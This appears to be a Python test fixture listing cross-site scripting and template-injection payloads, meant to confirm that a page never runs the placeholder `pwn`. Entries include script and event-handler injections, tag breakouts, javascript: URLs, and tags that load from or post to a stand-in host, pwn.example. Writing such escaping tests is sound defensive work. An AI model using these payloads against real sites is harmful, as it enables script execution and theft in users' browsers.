"""What somebody may type, or call a file, so that a careless page runs it. `pwn` must never be code."""

MARKUP = [
    "<script>pwn()</script>", "<script src=//pwn.example></script>", "</script><script>pwn()</script>",
    "<img src=x onerror=pwn()>", "<svg/onload=pwn()>", "<body onload=pwn()>", "<iframe srcdoc='<pwn>'>",
    "\"><script>pwn()</script>", "' onmouseover='pwn()", "\" onfocus=pwn() autofocus x=\"", "`onclick=pwn()`",
    "</title><script>pwn()</script>", "</textarea><script>pwn()</script>", "</style><script>pwn()</script>",
    "--><script>pwn()</script>", "<!--<pwn>", "<![CDATA[<pwn>]]>", "javascript:pwn()", "data:text/html,<pwn>",
    "{{ pwn }}", "{% pwn %}", "{{ 7777*7777 }}", "${pwn()}", "&lt;pwn&gt;", "&#60;pwn&#62;", "\u2028pwn()",
    "<a href=javascript:pwn()>x</a>", "<form action=//pwn.example>", "<base href=//pwn.example>",
    "<p hx-get=//pwn.example hx-trigger=load>",
]  # fmt: skip
